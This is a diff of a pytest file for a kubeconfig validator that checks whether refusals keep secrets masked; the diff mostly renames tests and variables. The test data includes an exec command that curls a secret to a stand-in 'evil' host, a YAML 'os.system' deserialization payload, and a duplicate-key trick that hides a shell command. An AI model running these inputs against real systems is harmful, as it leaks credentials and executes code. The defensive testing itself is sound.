@@ -1,4 +1,4 @@
-"""A kubeconfig from a secret: what clusters need passes; what runs a program, reads a file or goes in the clear does not."""
+"""A kubeconfig from a secret: those of real clusters pass; one that runs a program, reads a file or sends plain text does not."""
 
 import base64
 import json
@@ -43,7 +43,7 @@ def runs(command: str, *arguments: str, env: Any = None) -> dict[str, Any]:
         runs("kubelogin", "get-token", "--login", "workloadidentity"),
     ],
 )
-def test_what_real_clusters_need_passes(user: dict[str, Any]) -> None:
+def test_kubeconfigs_of_real_clusters_pass(user: dict[str, Any]) -> None:
     assert kubeconfig.checked(json.dumps(config(user)))["users"][0]["user"] == user
 
 
@@ -52,7 +52,7 @@ def test_plain_http_on_loopback_passes() -> None:
 
 
 @pytest.mark.parametrize(
-    ("found", "message"),
+    ("content", "message"),
     [
         (config(runs("sh", "-c", f"curl evil?{SECRET}")), "would run sh"),
         (config(runs("./aws", "eks", "get-token")), r"would run \./aws"),
@@ -83,9 +83,9 @@ def test_plain_http_on_loopback_passes() -> None:
         (config(clusters=None), "expected `kind: Config`"),
     ],
 )
-def test_what_does_something_else_is_refused_without_its_values(found: dict[str, Any], message: str) -> None:
+def test_other_kubeconfigs_are_refused_without_their_values(content: dict[str, Any], message: str) -> None:
     with pytest.raises(LoginFailed, match=message) as caught:
-        kubeconfig.checked(json.dumps(found, indent=1))
+        kubeconfig.checked(json.dumps(content, indent=1))
     assert SECRET not in str(caught.value)
     assert caught.value.fix
 
@@ -102,7 +102,7 @@ def test_what_does_something_else_is_refused_without_its_values(found: dict[str,
         ("!!python/object/apply:os.system [id]", "is not YAML"),
     ],
 )
-def test_text_that_is_none_is_refused_by_its_line_alone(text: str, message: str) -> None:
+def test_other_text_is_refused_with_its_line_only(text: str, message: str) -> None:
     with pytest.raises(LoginFailed, match=f"kubeconfig:{message}" if message[0].isdigit() else message) as caught:
         kubeconfig.checked(text)
     assert SECRET not in str(caught.value)
@@ -110,7 +110,7 @@ def test_text_that_is_none_is_refused_by_its_line_alone(text: str, message: str)
 
 
 def test_a_second_exec_cannot_hide_behind_the_first() -> None:
-    """Other readers take the last of two equal keys, ours the first: neither is taken."""
+    """Other readers use the last of two equal keys and this one the first, so a file that repeats a key is refused."""
     text = json.dumps(config(runs("aws", "eks", "get-token"))).replace('"command": "aws"', '"command": "aws", "command": "sh"')
     with pytest.raises(LoginFailed, match="written twice"):
         kubeconfig.checked(text)
@@ -123,7 +123,7 @@ def test_the_line_of_the_problem_is_named() -> None:
         kubeconfig.checked(text)
 
 
-def test_base64_is_taken_as_many_store_it() -> None:
+def test_base64_is_accepted() -> None:
     text = json.dumps(config())
     wrapped = base64.encodebytes(text.encode()).decode()
     assert kubeconfig.text_of(wrapped) == text
@@ -132,5 +132,5 @@ def test_base64_is_taken_as_many_store_it() -> None:
 
 
 def test_secrets_are_known_for_masking() -> None:
-    found = config({"token": SECRET, "password": "p", "client-key-data": "k", "client-certificate-data": "public"})
-    assert list(kubeconfig.secrets_of(found)) == [SECRET, "p", "k"]
+    content = config({"token": SECRET, "password": "p", "client-key-data": "k", "client-certificate-data": "public"})
+    assert list(kubeconfig.secrets_of(content)) == [SECRET, "p", "k"]
